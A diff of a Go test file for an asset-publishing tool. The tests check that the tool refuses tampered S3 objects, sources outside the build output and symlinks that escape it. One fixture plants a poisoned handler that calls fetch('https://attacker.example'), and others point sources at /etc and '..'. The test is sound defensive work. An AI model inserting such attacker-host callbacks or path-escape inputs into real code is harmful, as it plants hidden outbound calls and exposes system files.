@@ -1,6 +1,10 @@
 package assets_test
 
 import (
+	"archive/zip"
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"os"
 	"os/exec"
@@ -251,31 +255,7 @@ func TestSynthesizerPointsAtTheStores(t *testing.T) {
 func TestPublishOncePerRegionAndSkip(t *testing.T) {
 	python := pythonBinary(t)
 	out := workload(t)
-	bin, state := t.TempDir(), t.TempDir()
-	// aws: head-object and describe-images succeed for what was stored;
-	// s3 cp and docker push store it.
-	fake := `#!/bin/sh
-state=` + state + `
-log() { echo "$*" >> "$state/calls"; }
-case "$1 $2" in
-  "s3api head-object") test -f "$state/s3-$4-$6" ;;
-  "s3 cp") log "upload $4"; key=$(echo "$4" | sed 's#s3://##; s#/#-#'); touch "$state/s3-$key" ;;
-  "ecr describe-images") test -f "$state/ecr-$4-$(echo $6 | sed 's/imageTag=//')-$8" ;;
-  "ecr get-login-password") echo token ;;
-  *) echo "unexpected aws $*" >&2; exit 2 ;;
-esac
-`
-	docker := `#!/bin/sh
-state=` + state + `
-case "$1" in
-  login) cat > /dev/null ;;
-  build) echo "build $3" >> "$state/calls" ;;
-  push) echo "push $2" >> "$state/calls"; repo=$(echo "$2" | sed 's#^[^/]*/##; s#:.*##' | tr / -); tag=${2##*:}; region=$(echo "$2" | cut -d. -f4); touch "$state/ecr-$(echo "$2" | sed 's#^[^/]*/##; s#:.*##')-$tag-$region" 2>/dev/null || { mkdir -p "$state/ecr-relay/shop"; touch "$state/ecr-$(echo "$2" | sed 's#^[^/]*/##; s#:.*##')-$tag-$region"; } ;;
-  *) exit 2 ;;
-esac
-`
-	os.WriteFile(filepath.Join(bin, "aws"), []byte(fake), 0o755)
-	os.WriteFile(filepath.Join(bin, "docker"), []byte(docker), 0o755)
+	bin, state := fakeCommands(t)
 	script := filepath.Join(t.TempDir(), "publish.py")
 	os.WriteFile(script, []byte(assets.PublishScript()), 0o644)
 	run := func(region string) string {
@@ -316,6 +296,41 @@ esac
 	}
 }
 
+// fakeCommands writes fake aws and docker commands into bin, which keep
+// their state in state: s3 cp stores the file and its relay-content
+// metadata, head-object prints that metadata (None without it) for what was
+// stored, get-object copies it back, describe-images succeeds for what
+// docker push stored; every upload, login, build and push is logged in
+// state/calls.
+func fakeCommands(t *testing.T) (bin, state string) {
+	t.Helper()
+	bin, state = t.TempDir(), t.TempDir()
+	fake := `#!/bin/sh
+state=` + state + `
+log() { echo "$*" >> "$state/calls"; }
+case "$1 $2" in
+  "s3api head-object") test -f "$state/s3-$4-$6" || exit 254; cat "$state/s3-$4-$6.meta" 2>/dev/null || echo None ;;
+  "s3api get-object") cp "$state/s3-$4-$6" "$9" ;;
+  "s3 cp") test "$7" = --metadata || exit 2; log "upload $4"; key=$(echo "$4" | sed 's#s3://##; s#/#-#'); cp "$3" "$state/s3-$key"; echo "$8" | sed 's/^relay-content=//' > "$state/s3-$key.meta" ;;
+  "ecr describe-images") test -f "$state/ecr-$(echo $4 | tr / -)-$(echo $6 | sed 's/imageTag=//')-$8" ;;
+  "ecr get-login-password") echo token ;;
+  *) echo "unexpected aws $*" >&2; exit 2 ;;
+esac
+`
+	docker := `#!/bin/sh
+state=` + state + `
+case "$1" in
+  login) cat > /dev/null; echo "login $5" >> "$state/calls" ;;
+  build) echo "build $3" >> "$state/calls" ;;
+  push) echo "push $2" >> "$state/calls"; repo=$(echo "$2" | sed 's#^[^/]*/##; s#:.*##' | tr / -); tag=${2##*:}; region=$(echo "$2" | cut -d. -f4); touch "$state/ecr-$repo-$tag-$region" ;;
+  *) exit 2 ;;
+esac
+`
+	os.WriteFile(filepath.Join(bin, "aws"), []byte(fake), 0o755)
+	os.WriteFile(filepath.Join(bin, "docker"), []byte(docker), 0o755)
+	return bin, state
+}
+
 // pythonBinary is the Python 3 interpreter itself: a version manager's
 // shim would put its own folders (with a real aws) first on PATH.
 func pythonBinary(t *testing.T) string {
@@ -344,5 +359,152 @@ func TestPublishRefusesAnotherStore(t *testing.T) {
 	b, err := cmd.CombinedOutput()
 	if err == nil || !strings.Contains(string(b), "goes to bucket shop-assets-111111111111-us-east-1; Relay publishes to other-bucket: synthesize the workload with assets.NewSynthesizer") {
 		t.Errorf("err %v, output %s", err, b)
+	}
+}
+
+// TestPublishTrustsNoEarlierContent runs the publish step on a hand-written
+// build output in cn-north-1 (one zipped folder, one image) against fake aws
+// and docker commands: an object already under the file asset's key is
+// skipped only when it holds the folder's content (relay-content metadata,
+// or the zip's entries for an object without it); with other content the
+// step fails by name and uploads nothing, since a later release would
+// otherwise deploy what an earlier execution's build output put under its
+// key. A source outside the build output is refused, and the registry is
+// the China partition's.
+func TestPublishTrustsNoEarlierContent(t *testing.T) {
+	python := pythonBinary(t)
+	script := filepath.Join(t.TempDir(), "publish.py")
+	os.WriteFile(script, []byte(assets.PublishScript()), 0o644)
+	const bucket = "shop-assets-111111111111-cn-north-1"
+	zipOf := func(files map[string]string) []byte {
+		var b bytes.Buffer
+		z := zip.NewWriter(&b)
+		for name, body := range files {
+			w, _ := z.Create(name)
+			w.Write([]byte(body))
+		}
+		z.Close()
+		return b.Bytes()
+	}
+	sum := func(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }
+	// The relay-content digest of the folder {index.js: code}.
+	digest := func(code string) string { return sum("index.js\x00" + sum(code) + "\n") }
+	const code = "exports.handler = async () => 1\n"
+	tests := []struct {
+		name string
+		// setup changes the build output out and the fake's state.
+		setup func(t *testing.T, out, state string)
+		want  string // the last line of the output
+		ok    bool
+		calls []string // the uploads, logins and pushes
+	}{
+		{
+			name:  "nothing published yet",
+			setup: func(*testing.T, string, string) {},
+			want:  "relay: cn-north-1: 2 assets published, 0 already there", ok: true,
+			calls: []string{"upload s3://" + bucket + "/aaa.zip", "login 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn",
+				"build 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb", "push 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb"},
+		},
+		{
+			name: "the same content published by Relay",
+			setup: func(t *testing.T, out, state string) {
+				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": code}), 0o644)
+				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip.meta"), []byte(digest(code)+"\n"), 0o644)
+			},
+			want: "relay: cn-north-1: 1 assets published, 1 already there", ok: true,
+			calls: []string{"login 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn",
+				"build 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb", "push 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb"},
+		},
+		{
+			name: "the same content without metadata (published before the check)",
+			setup: func(t *testing.T, out, state string) {
+				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": code}), 0o644)
+			},
+			want: "relay: cn-north-1: 1 assets published, 1 already there", ok: true,
+			calls: []string{"login 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn",
+				"build 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb", "push 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb"},
+		},
+		{
+			name: "other content published by an earlier execution",
+			setup: func(t *testing.T, out, state string) {
+				evil := "exports.handler = async () => fetch('https://attacker.example')\n"
+				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": evil}), 0o644)
+				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip.meta"), []byte(digest(evil)+"\n"), 0o644)
+			},
+			want: "relay: {out}/shop.assets.json: file asset aaa: s3://" + bucket + "/aaa.zip already holds other content than the build output's asset.aaa: Relay never replaces a published asset (a deployment waiting in another execution may read it); find who wrote it in the bucket's object versions and access logs, and delete it if it is not a release's",
+		},
+		{
+			name: "other content without metadata",
+			setup: func(t *testing.T, out, state string) {
+				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": code, "extra.js": "x"}), 0o644)
+			},
+			want: "relay: {out}/shop.assets.json: file asset aaa: s3://" + bucket + "/aaa.zip already holds other content than the build output's asset.aaa: Relay never replaces a published asset (a deployment waiting in another execution may read it); find who wrote it in the bucket's object versions and access logs, and delete it if it is not a release's",
+		},
+		{
+			name: "a file asset outside the build output",
+			setup: func(t *testing.T, out, state string) {
+				manifest(t, out, "/etc", "asset.bbb")
+			},
+			want: "relay: {out}/shop.assets.json: file asset aaa: /etc is outside the build output {out}: an asset's source must be where cdk synth writes it",
+		},
+		{
+			name: "an image asset above the build output",
+			setup: func(t *testing.T, out, state string) {
+				manifest(t, out, "asset.aaa", "..")
+			},
+			want: "relay: {out}/shop.assets.json: image asset bbb: .. is outside the build output {out}: an asset's source must be where cdk synth writes it",
+		},
+		{
+			name: "a link out of an asset folder",
+			setup: func(t *testing.T, out, state string) {
+				os.Symlink("/etc/hostname", filepath.Join(out, "asset.aaa", "host"))
+			},
+			want: "relay: {out}/asset.aaa: host links outside the build output {out}: an asset's files must be where cdk synth writes them",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			out, _ := filepath.EvalSymlinks(t.TempDir())
+			os.MkdirAll(filepath.Join(out, "asset.aaa"), 0o755)
+			os.MkdirAll(filepath.Join(out, "asset.bbb"), 0o755)
+			os.WriteFile(filepath.Join(out, "asset.aaa", "index.js"), []byte(code), 0o644)
+			os.WriteFile(filepath.Join(out, "asset.bbb", "Dockerfile"), []byte("FROM scratch\n"), 0o644)
+			manifest(t, out, "asset.aaa", "asset.bbb")
+			bin, state := fakeCommands(t)
+			tt.setup(t, out, state)
+			cmd := exec.Command(python, script)
+			cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"), "RELAY_REGION=cn-north-1",
+				"RELAY_ASSET_BUCKET="+bucket, "RELAY_ASSET_REPOSITORY=relay/shop/assets",
+				"RELAY_TOOLING_ACCOUNT=111111111111", "RELAY_MANIFESTS="+out, "RELAY_OUTPUT="+out)
+			b, err := cmd.CombinedOutput()
+			lines := strings.Split(strings.TrimSpace(string(b)), "\n")
+			if got, want := lines[len(lines)-1], strings.ReplaceAll(tt.want, "{out}", out); got != want || (err == nil) != tt.ok {
+				t.Errorf("err %v, last line\n%s\nwant\n%s", err, got, want)
+			}
+			raw, _ := os.ReadFile(filepath.Join(state, "calls"))
+			var calls []string
+			if s := strings.TrimSpace(string(raw)); s != "" {
+				calls = strings.Split(s, "\n")
+			}
+			if diff := cmp.Diff(tt.calls, calls); diff != "" {
+				t.Errorf("calls (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+// manifest writes out/shop.assets.json: the file asset aaa (a zipped
+// folder at path) and the image asset bbb (built in directory), both bound
+// for cn-north-1's store.
+func manifest(t *testing.T, out, path, directory string) {
+	t.Helper()
+	doc := m{"version": "36.0.0",
+		"files": m{"aaa": m{"source": m{"path": path, "packaging": "zip"},
+			"destinations": m{"d": m{"bucketName": "shop-assets-111111111111-${AWS::Region}", "objectKey": "aaa.zip", "region": "cn-north-1"}}}},
+		"dockerImages": m{"bbb": m{"source": m{"directory": directory},
+			"destinations": m{"d": m{"repositoryName": "relay/shop/assets", "imageTag": "bbb", "region": "cn-north-1"}}}}}
+	b, _ := json.Marshal(doc)
+	if err := os.WriteFile(filepath.Join(out, "shop.assets.json"), b, 0o644); err != nil {
+		t.Fatal(err)
 	}
 }
